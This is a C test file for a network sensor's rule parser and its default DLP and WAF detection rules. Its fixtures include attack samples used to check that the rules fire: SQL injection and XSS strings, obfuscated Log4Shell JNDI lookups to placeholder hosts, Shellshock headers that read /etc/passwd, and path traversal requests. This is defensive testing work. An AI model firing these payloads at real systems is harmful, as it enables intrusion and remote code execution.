/*
 * check_rules_file.c: the sensor rule file parser (rules_file.c): the
 * format, every error with its FILE:LINE, going on after an error, the
 * bounds; and the default rule files (rules/dlp.rules, rules/waf.rules):
 * that they parse and build, which rule each attack sample fires, that
 * benign traffic fires none, and that hostile texts hit no PCRE2 limit.
 * Threat blocks: their settings, their errors, and rules/threats.rules,
 * which sets every detector as it is built in.
 */
#include "config.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "sensor/rules_file.h"
#include "sensor/sensor.h"

static struct rules_errors errs;

static int
parse(const char *text, struct rules_file *rf)
{
	memset(&errs, 0, sizeof(errs));
	return rules_parse("t.rules", text, strlen(text), rf, &errs);
}

/* text has exactly the errors want (NULL-terminated). */
static void
ck_errors(const char *text, const char *const *want)
{
	struct rules_file rf;
	int n = 0, nerr;

	while (want[n])
		n++;
	nerr = parse(text, &rf);
	for (int i = 0; i < errs.count && i < n; i++)
		ck_assert_str_eq(errs.msg[i], want[i]);
	ck_assert_msg(nerr == n && errs.count == n, "%d errors, wanted %d; first: %s", nerr, n,
	    errs.count ? errs.msg[0] : "none");
	ck_assert_ptr_null(rf.sensors);
	ck_assert_int_eq(rf.nsensors, 0);
}

static void
ck_error(const char *text, const char *want)
{
	const char *w[] = { want, NULL };

	ck_errors(text, w);
}

/* --- the format ---------------------------------------------------------- */

START_TEST(test_parse)
{
	struct rules_file rf;
	const struct sensor_rule_spec *r;

	ck_assert_int_eq(parse(
	    "# a comment\n"
	    "\n"
	    "sensor pii dlp\n"
	    "  rule card\t\n"
	    "  validator luhn\n"
	    "  packet   [0-9]{16}  \r\n"
	    "rule no-test\r\n"
	    "\tbody  secret\n"
	    "\theader !X-Test: # not a comment\n"
	    "   # an indented comment\n"
	    "sensor web.2 waf\n"
	    "rule q\n"
	    "url \\?id=\n"
	    "url !(?i)^/health\n"
	    "validator none\n"
	    "rule bang\n"
	    "url \\!x", &rf), 0);
	ck_assert_int_eq(rf.nsensors, 2);
	ck_assert_str_eq(rf.sensors[0].name, "pii");
	ck_assert_int_eq(rf.sensors[0].type, SENSOR_DLP);
	ck_assert_int_eq(rf.line[0], 3);
	ck_assert_int_eq(rf.sensors[0].nrules, 2);
	r = &rf.sensors[0].rules[0];
	ck_assert_str_eq(r->name, "card");
	ck_assert_int_eq(r->validator, SVAL_LUHN);
	ck_assert_int_eq(r->npat, 1);
	ck_assert_str_eq(r->pat[0].re, "[0-9]{16}");
	ck_assert_int_eq(r->pat[0].ctx, SCTX_PACKET);
	ck_assert_int_eq(r->pat[0].negate, 0);
	r = &rf.sensors[0].rules[1];
	ck_assert_str_eq(r->name, "no-test");
	ck_assert_int_eq(r->validator, SVAL_NONE);
	ck_assert_int_eq(r->npat, 2);
	ck_assert_str_eq(r->pat[0].re, "secret");
	ck_assert_int_eq(r->pat[0].ctx, SCTX_BODY);
	ck_assert_str_eq(r->pat[1].re, "X-Test: # not a comment");
	ck_assert_int_eq(r->pat[1].ctx, SCTX_HEADER);
	ck_assert_int_eq(r->pat[1].negate, 1);
	ck_assert_str_eq(rf.sensors[1].name, "web.2");
	ck_assert_int_eq(rf.sensors[1].type, SENSOR_WAF);
	ck_assert_int_eq(rf.line[1], 11);
	r = &rf.sensors[1].rules[0];
	ck_assert_int_eq(r->npat, 2);
	ck_assert_str_eq(r->pat[0].re, "\\?id=");
	ck_assert_int_eq(r->pat[0].ctx, SCTX_URL);
	ck_assert_str_eq(r->pat[1].re, "(?i)^/health");
	ck_assert_int_eq(r->pat[1].negate, 1);
	/* "\!" is a literal '!' for PCRE2, not a negation. */
	r = &rf.sensors[1].rules[1];
	ck_assert_str_eq(r->pat[0].re, "\\!x");
	ck_assert_int_eq(r->pat[0].negate, 0);
	rules_free(&rf);
	ck_assert_ptr_null(rf.sensors);

	/* Empty files, and files of comments, define nothing and are fine. */
	ck_assert_int_eq(parse("", &rf), 0);
	ck_assert_int_eq(rf.nsensors, 0);
	ck_assert_int_eq(parse("# nothing\n\n   \n", &rf), 0);
	ck_assert_int_eq(rf.nsensors, 0);
	/* A sensor of no rule is fine too (nvctl can make one). */
	ck_assert_int_eq(parse("sensor empty waf\n", &rf), 0);
	ck_assert_int_eq(rf.nsensors, 1);
	ck_assert_int_eq(rf.sensors[0].nrules, 0);
	rules_free(&rf);
}
END_TEST

START_TEST(test_errors)
{
	ck_error("bogus x\n", "t.rules:1: unknown keyword 'bogus' (expected sensor, rule, "
	    "validator, a context: packet, url, header, body, args, or admission, message, "
	    "threat, level, action, enable, disable, param)");
	ck_error("sensor s\n", "t.rules:1: expected 'sensor NAME dlp|waf'");
	ck_error("sensor s dlp extra\n", "t.rules:1: expected 'sensor NAME dlp|waf'");
	ck_error("sensor s ids\n", "t.rules:1: sensor 's': unknown type 'ids' (expected dlp or waf)");
	ck_error("sensor a/b dlp\n", "t.rules:1: sensor name 'a/b': only letters, digits, '.', "
	    "'_' and '-'");
	ck_error("sensor .a dlp\n", "t.rules:1: sensor name '.a' must start with a letter or a digit");
	ck_error("sensor a123456789012345678901234567890123456789012345678901234567890123 dlp\n",
	    "t.rules:1: sensor name 'a123456789012345678901234567890123456789...': 1 to 63 "
	    "characters");
	ck_error("sensor s dlp\nrule r\npacket x\n\nsensor s waf\n",
	    "t.rules:5: sensor 's' already defined at line 1");
	ck_error("rule r\npacket x\n", "t.rules:1: rule outside a sensor (a 'sensor NAME TYPE' "
	    "line must come first)");
	ck_error("sensor s dlp\nrule\n", "t.rules:2: expected 'rule NAME'");
	ck_error("sensor s dlp\nrule a b\n", "t.rules:2: expected 'rule NAME'");
	ck_error("sensor s dlp\nrule r!\npacket x\n", "t.rules:2: rule name 'r!': only letters, "
	    "digits, '.', '_' and '-'");
	ck_error("sensor s dlp\nrule r\npacket x\nrule r\npacket y\n",
	    "t.rules:4: rule 'r' defined twice in sensor 's'");
	ck_error("sensor s dlp\nrule r\n\n", "t.rules:2: rule 'r' has no pattern");
	ck_error("sensor s dlp\nrule r\nvalidator luhn\nsensor t dlp\n",
	    "t.rules:2: rule 'r' has no pattern");
	ck_error("sensor s dlp\nrule r\nbody !x\nurl !y\n",
	    "t.rules:2: rule 'r' has only negated patterns");
	ck_error("sensor s dlp\npacket x\n", "t.rules:2: pattern outside a rule (a 'rule NAME' "
	    "line must come first)");
	ck_error("packet x\n", "t.rules:1: pattern outside a rule (a 'rule NAME' line must come "
	    "first)");
	ck_error("sensor s dlp\nrule r\npacket\n", "t.rules:3: pattern: empty pattern");
	ck_error("sensor s dlp\nrule r\npacket   \t\n", "t.rules:3: pattern: empty pattern");
	ck_error("sensor s dlp\nrule r\npacket !\n", "t.rules:3: pattern: empty pattern");
	ck_error("sensor s dlp\nrule r\npacket a(b\n",
	    "t.rules:3: pattern: missing closing parenthesis at offset 3");
	ck_error("sensor s dlp\nrule r\nurl (*UTF)x\n",
	    "t.rules:3: pattern: using UTF is disabled by the application at offset 6");
	ck_error("sensor s dlp\nvalidator luhn\n", "t.rules:2: validator outside a rule");
	ck_error("sensor s dlp\nrule r\nvalidator\npacket x\n",
	    "t.rules:3: expected 'validator luhn|ssn|none'");
	ck_error("sensor s dlp\nrule r\nvalidator iban\npacket x\n",
	    "t.rules:3: unknown validator 'iban' (expected luhn, ssn or none)");
	ck_error("sensor s dlp\nrule r\nvalidator luhn\nvalidator ssn\npacket x\n",
	    "t.rules:4: rule 'r' has a validator already (line 3)");
}
END_TEST

/* Errors after the first are found too; lines under a bad sensor or rule are skipped. */
START_TEST(test_errors_go_on)
{
	static const char *const want[] = {
		"t.rules:1: sensor 'bad': unknown type 'x' (expected dlp or waf)",
		"t.rules:5: rule name '-r' must start with a letter or a digit",
		"t.rules:9: pattern: missing closing parenthesis at offset 1",
		"t.rules:10: unknown keyword 'patern' (expected sensor, rule, validator, a "
		    "context: packet, url, header, body, args, or admission, message, threat, "
		    "level, action, enable, disable, param)",
		"t.rules:11: rule 'empty' has no pattern",
		NULL,
	};

	ck_errors(
	    "sensor bad x\n"		/* 1 */
	    "rule r\n"			/* 2: under a bad sensor: skipped */
	    "packet (\n"		/* 3: skipped */
	    "sensor good dlp\n"		/* 4 */
	    "rule -r\n"			/* 5 */
	    "packet (\n"		/* 6: under a bad rule: skipped */
	    "bogus\n"			/* 7: skipped */
	    "rule fine\n"		/* 8 */
	    "packet (\n"		/* 9 */
	    "patern x\n"		/* 10 */
	    "rule empty\n",		/* 11 */
	    want);
}
END_TEST

START_TEST(test_limits)
{
	struct rules_file rf;
	struct rules_errors many;
	char *text, msg[128];
	size_t n;

	/* A NUL byte, a line too long: that line only. */
	memset(&errs, 0, sizeof(errs));
	ck_assert_int_eq(rules_parse("t.rules", "sensor s dlp\nrule r\npacket a\0b\npacket c\n",
	    40, &rf, &errs), 1);
	ck_assert_str_eq(errs.msg[0], "t.rules:3: NUL byte in line");
	text = malloc(RULES_FILE_MAX + 2);
	ck_assert_ptr_nonnull(text);
	n = (size_t)sprintf(text, "sensor s dlp\nrule r\npacket ");
	memset(text + n, 'a', RULES_LINE_MAX);
	strcpy(text + n + RULES_LINE_MAX, "\npacket b\n");
	ck_assert_int_eq(parse(text, &rf), 1);
	snprintf(msg, sizeof(msg), "t.rules:3: line longer than %d bytes", RULES_LINE_MAX);
	ck_assert_str_eq(errs.msg[0], msg);
	/* A pattern just too long for the engine. */
	n = (size_t)sprintf(text, "sensor s dlp\nrule r\npacket ");
	memset(text + n, 'a', SENSOR_PATTERN_MAX);
	text[n + SENSOR_PATTERN_MAX] = '\0';
	ck_error(text, "t.rules:3: pattern: longer than 1023 bytes");
	text[n + SENSOR_PATTERN_MAX - 1] = '\0';
	ck_assert_int_eq(parse(text, &rf), 0);
	rules_free(&rf);
	/* The file as a whole. */
	memset(text, '#', RULES_FILE_MAX + 1);
	memset(&errs, 0, sizeof(errs));
	ck_assert_int_eq(rules_parse("t.rules", text, RULES_FILE_MAX + 1, &rf, &errs), 1);
	ck_assert_str_eq(errs.msg[0], "t.rules: larger than 1048576 bytes");
	/* Patterns per rule. */
	n = (size_t)sprintf(text, "sensor s dlp\nrule r\n");
	for (int i = 0; i <= SENSOR_RULE_PATTERNS; i++)
		n += (size_t)sprintf(text + n, "packet p%d\n", i);
	ck_error(text, "t.rules:11: more than 8 patterns in rule 'r'");
	/* Sensors per file. */
	n = 0;
	for (int i = 0; i <= SENSOR_MAX; i++)
		n += (size_t)sprintf(text + n, "sensor s%d waf\nrule r\nurl x\n", i);
	ck_error(text, "t.rules:193: more than 64 sensors");
	/* Rules per sensor, and per file. */
	n = (size_t)sprintf(text, "sensor s dlp\n");
	for (int i = 0; i <= SENSOR_RULES_MAX; i++)
		n += (size_t)sprintf(text + n, "rule r%d\npacket x\n", i);
	ck_error(text, "t.rules:514: more than 256 rules in sensor 's'");
	n = 0;
	for (int s = 0; s < 5; s++) {	/* 5 * 205: the last rule is the 1025th */
		n += (size_t)sprintf(text + n, "sensor s%d dlp\n", s);
		for (int i = 0; i < 205; i++)
			n += (size_t)sprintf(text + n, "rule r%d\npacket x\n", i);
	}
	ck_error(text, "t.rules:2054: more than 1024 rules in the file");
	/* Errors are counted beyond those kept. */
	n = 0;
	for (int i = 0; i < RULES_MAX_ERRORS + 5; i++)
		n += (size_t)sprintf(text + n, "bogus\n");
	memset(&many, 0, sizeof(many));
	ck_assert_int_eq(rules_parse("t.rules", text, n, &rf, &many), RULES_MAX_ERRORS + 5);
	ck_assert_int_eq(many.count, RULES_MAX_ERRORS);
	/* errs may be NULL. */
	ck_assert_int_eq(rules_parse("t.rules", "bogus\n", 6, &rf, NULL), 1);
	free(text);
}
END_TEST

START_TEST(test_read)
{
	char path[] = "/tmp/check_rules_file.XXXXXX";
	struct rules_file rf;
	FILE *f;
	int fd;

	memset(&errs, 0, sizeof(errs));
	ck_assert_int_eq(rules_read("/nonexistent/x.rules", &rf, &errs), 1);
	ck_assert_str_eq(errs.msg[0], "/nonexistent/x.rules: cannot open: No such file or directory");
	ck_assert_int_ne(fd = mkstemp(path), -1);
	ck_assert_ptr_nonnull(f = fdopen(fd, "w"));
	fputs("sensor s dlp\nrule r\npacket x(\n", f);
	fclose(f);
	memset(&errs, 0, sizeof(errs));
	ck_assert_int_eq(rules_read(path, &rf, &errs), 1);
	ck_assert_int_eq(strncmp(errs.msg[0], path, strlen(path)), 0);
	ck_assert_str_eq(errs.msg[0] + strlen(path),
	    ":3: pattern: missing closing parenthesis at offset 2");
	unlink(path);
}
END_TEST

START_TEST(test_names)
{
	char err[160];
	struct sensor_pattern_spec ps;

	ck_assert_int_eq(rules_name_check("sensor", "sensor.creditcard", err, sizeof(err)), 0);
	ck_assert_int_eq(rules_name_check("rule", "A_b-9.x", err, sizeof(err)), 0);
	ck_assert_int_eq(rules_name_check("rule", "", err, sizeof(err)), -1);
	ck_assert_str_eq(err, "rule name '': 1 to 63 characters");
	ck_assert_int_eq(rules_name_check("rule", "a b", err, sizeof(err)), -1);
	ck_assert_str_eq(err, "rule name 'a b': only letters, digits, '.', '_' and '-'");
	ck_assert_int_eq(rules_name_check("rule", "_x", err, sizeof(err)), -1);
	ck_assert_int_eq(rules_pattern(&ps, "!(?i)x", SCTX_URL, err, sizeof(err)), 0);
	ck_assert_int_eq(ps.negate, 1);
	ck_assert_int_eq(ps.ctx, SCTX_URL);
	ck_assert_str_eq(ps.re, "(?i)x");
	ck_assert_int_eq(rules_pattern(&ps, "[a", SCTX_URL, err, sizeof(err)), -1);
	ck_assert_str_eq(err, "missing terminating ] for character class at offset 2");
}
END_TEST

/* --- the default rule files ---------------------------------------------- */

static struct sensor_spec dflt[SENSOR_MAX];
static int ndflt;
static struct rules_file files[2];
static struct sensor_set *set;
static struct sensor_scratch *scratch;

static void
defaults_load(void)
{
	static const char *const names[] = { "dlp.rules", "waf.rules" };
	const char *src = getenv("NVD_SRCDIR");
	char path[512];

	ndflt = 0;
	for (int i = 0; i < 2; i++) {
		memset(&errs, 0, sizeof(errs));
		snprintf(path, sizeof(path), "%s/rules/%s", src ? src : "..", names[i]);
		ck_assert_msg(rules_read(path, &files[i], &errs) == 0, "%s",
		    errs.count ? errs.msg[0] : path);
		for (int k = 0; k < files[i].nsensors; k++)
			dflt[ndflt++] = files[i].sensors[k];
	}
}

static void
setup(void)
{
	char err[512];

	defaults_load();
	set = sensor_set_build(dflt, ndflt, 1, err, sizeof(err));
	ck_assert_msg(set != NULL, "%s", err);
	ck_assert_ptr_nonnull(scratch = sensor_scratch_new());
}

static void
teardown(void)
{
	sensor_scratch_free(scratch);
	sensor_set_free(set);
	rules_free(&files[0]);
	rules_free(&files[1]);
}

struct fired {
	char names[1024];	/* "sensor/rule " for each hit */
	char excerpt[SENSOR_EXCERPT_MAX];
};

static void
on_hit(void *ctx, const struct sensor_hit *h)
{
	struct fired *f = ctx;
	size_t n = strlen(f->names);

	snprintf(f->names + n, sizeof(f->names) - n, "%s%s/%s", n ? " " : "", h->sensor_name,
	    h->rule_name);
	snprintf(f->excerpt, sizeof(f->excerpt), "%s", h->excerpt);
}

static struct fired f;

/* The rules text fires in context ctx, as "sensor/rule ...". */
static const char *
fire(enum sensor_ctx ctx, const char *text, size_t len)
{
	const uint8_t *t[SCTX_COUNT] = { NULL };
	size_t l[SCTX_COUNT] = { 0 };

	memset(&f, 0, sizeof(f));
	t[ctx] = (const uint8_t *)text;
	l[ctx] = len;
	ck_assert_int_ge(sensor_match(set, scratch, UINT64_MAX, t, l, on_hit, &f), 0);
	return f.names;
}

/* The excerpt of the last hit of the last fire(). */
static const char *
fire_excerpt(void)
{
	return f.excerpt;
}

#define FIRES(ctx, text, want) \
	ck_assert_msg(strcmp(fire(ctx, text, strlen(text)), want) == 0, "%s: '%s' fired '%s', " \
	    "wanted '%s'", #ctx, text, fire(ctx, text, strlen(text)), want)

START_TEST(test_defaults_names)
{
	static const char *const want[] = {
		"sensor.creditcard", "sensor.ssn", "sensor.aws-key", "sensor.private-key",
		"sensor.sqlinjection", "sensor.xss", "sensor.log4shell", "sensor.shellshock",
		"sensor.path-traversal",
	};
	struct sensor_set_info info;

	ck_assert_int_eq(ndflt, 9);
	for (int i = 0; i < 9; i++) {
		ck_assert_str_eq(dflt[i].name, want[i]);
		ck_assert_int_eq(dflt[i].type, i < 4 ? SENSOR_DLP : SENSOR_WAF);
	}
	sensor_set_info(set, &info);
	ck_assert_int_eq(info.jit, info.patterns);	/* every default pattern JIT-compiles */
	ck_assert_int_eq(info.pcre_only, 0);		/* ... and Hyperscan takes it */
	/* The memory per stream nvd(8) states (1948 and 1892 bytes on x86-64). */
	ck_assert_uint_le(sensor_stream_size(set, SCTX_PACKET), 2048);
	ck_assert_uint_le(sensor_stream_size(set, SCTX_BODY), 2048);
}
END_TEST

START_TEST(test_defaults_dlp)
{
	static const struct { const char *text, *want; } yes[] = {
		{ "card=4111111111111111;", "sensor.creditcard/visa" },
		{ "4111 1111 1111 1111", "sensor.creditcard/visa" },
		{ "pay 4111-1111-1111-1111 now", "sensor.creditcard/visa" },
		{ "4012888888881881", "sensor.creditcard/visa" },
		{ "x 4222222222222 y", "sensor.creditcard/visa" },
		{ "5555555555554444", "sensor.creditcard/mastercard" },
		{ "5555 5555 5555 4444", "sensor.creditcard/mastercard" },
		{ "2221000000000009", "sensor.creditcard/mastercard" },
		{ "2223000000000007", "sensor.creditcard/mastercard" },
		{ "2720990000000007", "sensor.creditcard/mastercard" },
		{ "378282246310005", "sensor.creditcard/amex" },
		{ "3782 822463 10005", "sensor.creditcard/amex" },
		{ "6011111111111117", "sensor.creditcard/discover" },
		{ "6011-1111-1111-1117", "sensor.creditcard/discover" },
		{ "30569309025904", "sensor.creditcard/diners" },
		{ "3056 930902 5904", "sensor.creditcard/diners" },
		{ "38520000023237", "sensor.creditcard/diners" },
		{ "3530111333300000", "sensor.creditcard/jcb" },
		{ "3566 0020 2036 0505", "sensor.creditcard/jcb" },
		{ "213100000000001", "sensor.creditcard/jcb" },
		{ "180000000000002", "sensor.creditcard/jcb" },
		{ "ssn: 123-45-6789\n", "sensor.ssn/ssn" },
		{ "id=AKIAIOSFODNN7EXAMPLE&x", "sensor.aws-key/access-key-id" },
		{ "ASIAY34FZKBOKMUTVV7A", "sensor.aws-key/access-key-id" },
		{ "-----BEGIN RSA PRIVATE KEY-----\nMIIE", "sensor.private-key/pem-private-key" },
		{ "-----BEGIN PRIVATE KEY-----", "sensor.private-key/pem-private-key" },
		{ "-----BEGIN OPENSSH PRIVATE KEY-----", "sensor.private-key/pem-private-key" },
		{ "-----BEGIN EC PRIVATE KEY-----", "sensor.private-key/pem-private-key" },
		{ "-----BEGIN ENCRYPTED PRIVATE KEY-----", "sensor.private-key/pem-private-key" },
	};
	static const char *const no[] = {
		"4111111111111112",		/* Luhn fails */
		"41111111111111110",		/* a longer run of digits */
		"14111111111111111",
		"4111 1111 1111 111",		/* a group short */
		"5655555555554444",		/* no such prefix */
		"27209900000000071",
		"2721000000000000",
		"000-12-3456", "666-12-3456", "900-12-3456", "123-00-4567", "123-45-0000",
		"1123-45-6789", "123-45-67890", "123 45 6789",
		"AKIAIOSFODNN7EXAMPL", "AKIAIOSFODNN7EXAMPLEX", "akiaiosfodnn7example",
		"-----BEGIN PUBLIC KEY-----", "-----BEGIN CERTIFICATE-----",
		"order 12345, total 99.95, phone 555-123-4567, 2024-01-15",
	};

	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		FIRES(SCTX_PACKET, yes[i].text, yes[i].want);
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		FIRES(SCTX_PACKET, no[i], "");
}
END_TEST

/* DLP excerpts keep only a card's last four digits. */
START_TEST(test_defaults_masked)
{
	fire(SCTX_PACKET, "x 4111-1111-1111-1111 x", 23);
	ck_assert_str_eq(fire_excerpt(), "****-****-****-1111");
	fire(SCTX_PACKET, "123-45-6789", 11);
	ck_assert_str_eq(fire_excerpt(), "***-**-6789");
}
END_TEST

START_TEST(test_defaults_waf_url)
{
	static const struct { const char *text, *want; } yes[] = {
		{ "/search?q=1 union select password from users",
		    "sensor.sqlinjection/union-select-url" },
		{ "/?id=1 UNION/**/ALL/**/SELECT 1,2", "sensor.sqlinjection/union-select-url" },
		{ "/?id=-1 union(select 1)", "sensor.sqlinjection/union-select-url" },
		{ "/login?user=x' or '1'='1", "sensor.sqlinjection/tautology-url" },
		{ "/login?user=x' OR 'a' = 'a", "sensor.sqlinjection/tautology-url" },
		{ "/item?id=1 or 1=1", "sensor.sqlinjection/numeric-tautology-url" },
		{ "/item?id=1 OR 42 = 42", "sensor.sqlinjection/numeric-tautology-url" },
		{ "/item?id=1; DROP TABLE users", "sensor.sqlinjection/drop-table-url" },
		{ "/item?id=1 and sleep(5)", "sensor.sqlinjection/time-delay-url" },
		{ "/item?id=1 AND BENCHMARK(1000000,MD5(1))", "sensor.sqlinjection/time-delay-url" },
		{ "/item?id=1;waitfor delay '0:0:5'", "sensor.sqlinjection/time-delay-url" },
		{ "/login?user=admin'--", "sensor.sqlinjection/comment-url" },
		{ "/login?user=admin'#", "sensor.sqlinjection/comment-url" },
		{ "/?q=<script>alert(1)</script>", "sensor.xss/script-tag-url" },
		{ "/?q=<SCRIPT/src=//x>", "sensor.xss/script-tag-url" },
		{ "/go?to=javascript:alert(1)", "sensor.xss/javascript-uri-url" },
		{ "/go?to= JavaScript :alert(1)", "sensor.xss/javascript-uri-url" },
		{ "/?q=<img src=x onerror=alert(1)>", "sensor.xss/event-handler-url" },
		{ "/?q=<svg/onload=alert(1)>", "sensor.xss/event-handler-url" },
		{ "/?q=\" onmouseover=\"alert(1)", "sensor.xss/event-attribute-url" },
		{ "/?x=${jndi:ldap://evil.example/a}", "sensor.log4shell/jndi-url" },
		{ "/?x=${${lower:j}ndi:ldap://evil/a}", "sensor.log4shell/jndi-url" },
		{ "/download?file=../../etc/passwd", "sensor.path-traversal/query" },
		{ "/download?file=..\\..\\boot.ini", "sensor.path-traversal/query" },
		{ "/a/%2e%2e/%2e%2e/etc/passwd", "sensor.path-traversal/double-encoded" },
		{ "/a/..%2fetc", "sensor.path-traversal/double-encoded" },
	};
	static const char *const no[] = {
		"/products?id=42&sort=price", "/search?q=union station tickets",
		"/search?q=select a union", "/?q=rock and roll", "/?q=O'Reilly books",
		"/?q=it's or isn't", "/?onion=1&only=2", "/blog/sleep-tips", "/?q=javascript tutorial",
		"/?q=a < b and c > d", "/docs/v1.2/", "/?version=1.2...3", "/?price=$5",
		"/?tpl=${name}", "/?score=10 or 11", "/a.b/c..d/e",
	};

	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		FIRES(SCTX_URL, yes[i].text, yes[i].want);
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		FIRES(SCTX_URL, no[i], "");
}
END_TEST

START_TEST(test_defaults_waf_body_header_packet)
{
	static const struct { enum sensor_ctx ctx; const char *text, *want; } yes[] = {
		{ SCTX_BODY, "id=1%27%20or%20%271%27%3D%271", "sensor.sqlinjection/tautology-body" },
		{ SCTX_BODY, "{\"user\":\"x' or '1'='1\"}", "sensor.sqlinjection/tautology-body" },
		{ SCTX_BODY, "q=1+union+select+1,2", "sensor.sqlinjection/union-select-body" },
		{ SCTX_BODY, "q=1%20UNION%20ALL%20SELECT%20NULL",
		    "sensor.sqlinjection/union-select-body" },
		{ SCTX_BODY, "id=1+or+1%3D1", "sensor.sqlinjection/numeric-tautology-body" },
		{ SCTX_BODY, "id=1%3B%20drop%20table%20users", "sensor.sqlinjection/drop-table-body" },
		{ SCTX_BODY, "id=1%20and%20sleep%285%29", "sensor.sqlinjection/time-delay-body" },
		{ SCTX_BODY, "user=admin%27--", "sensor.sqlinjection/comment-body" },
		{ SCTX_BODY, "c=%3Cscript%3Ealert(1)%3C/script%3E", "sensor.xss/script-tag-body" },
		{ SCTX_BODY, "<p>hi</p><script>x()</script>", "sensor.xss/script-tag-body" },
		{ SCTX_BODY, "<a href=\"javascript:alert(1)\">x</a>",
		    "sensor.xss/javascript-uri-body" },
		{ SCTX_BODY, "c=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
		    "sensor.xss/event-handler-body" },
		{ SCTX_BODY, "{\"a\":\"${jndi:rmi://evil/x}\"}", "sensor.log4shell/jndi-body" },
		{ SCTX_BODY, "a=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fx%7D", "sensor.log4shell/jndi-body" },
		{ SCTX_BODY, "a=%24%7B%24%7Blower%3Aj%7Dndi%3A", "sensor.log4shell/jndi-body" },
		{ SCTX_HEADER, "Host: a\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n",
		    "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "X-Api-Version: ${JNDI:LDAPS://evil/a}\r\n",
		    "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "X: ${${lower:j}ndi:ldap://x/a}\r\n", "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "X: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}\r\n",
		    "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "X: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}\r\n",
		    "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "X: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}\r\n",
		    "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "X: ${jndi:${lower:l}${lower:d}a${lower:p}://x/a}\r\n",
		    "sensor.log4shell/jndi-header" },
		{ SCTX_HEADER, "User-Agent: () { :; }; /bin/cat /etc/passwd\r\n",
		    "sensor.shellshock/function-definition" },
		{ SCTX_HEADER, "Cookie: () { :;}; echo vulnerable\r\n",
		    "sensor.shellshock/function-definition" },
		{ SCTX_HEADER, "Referer: () { _; } >_[$($())] { id; }\r\n",
		    "sensor.shellshock/function-definition" },
		{ SCTX_PACKET, "GET /static/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
		    "sensor.path-traversal/request-line" },
		{ SCTX_PACKET, "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1\r\n",
		    "sensor.path-traversal/request-line" },
		{ SCTX_PACKET, "GET /a/..%2f..%2fetc/passwd HTTP/1.1\r\n",
		    "sensor.path-traversal/request-line" },
		{ SCTX_PACKET, "GET /%c0%ae%c0%ae/etc/passwd HTTP/1.1\r\n",
		    "sensor.path-traversal/request-line" },
		{ SCTX_PACKET, "GET /a/.. HTTP/1.1\r\n", "sensor.path-traversal/request-line" },
		{ SCTX_PACKET, "x\r\n\r\nPOST /cgi-bin/..\\..\\cmd.exe HTTP/1.0\r\n",
		    "sensor.path-traversal/request-line" },
	};
	static const struct { enum sensor_ctx ctx; const char *text; } no[] = {
		{ SCTX_BODY, "{\"name\":\"O'Brien\",\"color\":\"#fff\",\"n\":1}" },
		{ SCTX_BODY, "name=O%27Brien&note=see+you+or+not" },
		{ SCTX_BODY, "comment=I+sleep+8+hours" },
		{ SCTX_BODY, "<p>Learn Javascript: the good parts</p>" },
		{ SCTX_BODY, "tpl=Hello ${name}, see ${url}" },
		{ SCTX_BODY, "import ../lib/x.js" },
		{ SCTX_HEADER, "Host: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) "
		    "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\r\n"
		    "Accept: */*\r\nCookie: a=1; b=2\r\n" },
		{ SCTX_PACKET, "GET /a/b/c.html HTTP/1.1\r\nHost: x\r\n\r\n" },
		{ SCTX_PACKET, "GET /..hidden/x HTTP/1.1\r\n" },
		{ SCTX_PACKET, "GET /?f=../x HTTP/1.1\r\n" },	/* the query: the url rule's */
		{ SCTX_PACKET, "POST /up HTTP/1.1\r\n\r\nsee ../x and ../../y\r\n" },
	};

	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		FIRES(yes[i].ctx, yes[i].text, yes[i].want);
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		FIRES(no[i].ctx, no[i].text, "");
}
END_TEST

/*
 * Hostile texts of 64 KiB, with and without the prefilter (without it,
 * every pattern runs on every text): no pattern hits PCRE2's limits, and
 * all of it runs in a few seconds.
 */
START_TEST(test_defaults_hostile)
{
	static const char *const unit[] = {
		"<a", "< a ", "<a on", "<img src=x onerror", "<script", "${", "${${", "${jndi:",
		"${${lower:", "$", "union ", "union/*", "union/**/", "/**/", "' or '", "'",
		"' or 'a'", "or 1", "or 1=", "(){", "() { ", "() { :;", "%2e", "%2e%2e", "..",
		"../", "%", "4111 ", "1111-", "1", " ", "-", "\r\nGET /", "GET /a", "GET /..",
		"javascript", "=javascript", "=\"", "on", "%3cscript", "%24%7B", "sleep(",
		"and sleep", "-----BEGIN ", "AKIA", "123-45-", "%27%20or%20%27",
	};
	const uint8_t *t[SCTX_COUNT];
	size_t l[SCTX_COUNT], len = 65536;
	struct sensor_scratch *sc = sensor_scratch_new();
	struct sensor_set *plain;
	struct sensor_stats st;
	struct timespec a, b;
	char *text = malloc(len), err[256];
	double secs;

	ck_assert_ptr_nonnull(text);
	ck_assert_ptr_nonnull(sc);
	ck_assert_ptr_nonnull(plain = sensor_set_build(dflt, ndflt, 0, err, sizeof(err)));
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (size_t u = 0; u < sizeof(unit) / sizeof(unit[0]); u++) {
		size_t ul = strlen(unit[u]);

		for (size_t i = 0; i < len; i++)
			text[i] = unit[u][i % ul];
		for (int c = 0; c < SCTX_COUNT; c++) {
			t[c] = (const uint8_t *)text;
			l[c] = len;
		}
		ck_assert_msg(sensor_match(set, scratch, UINT64_MAX, t, l, NULL, NULL) >= 0,
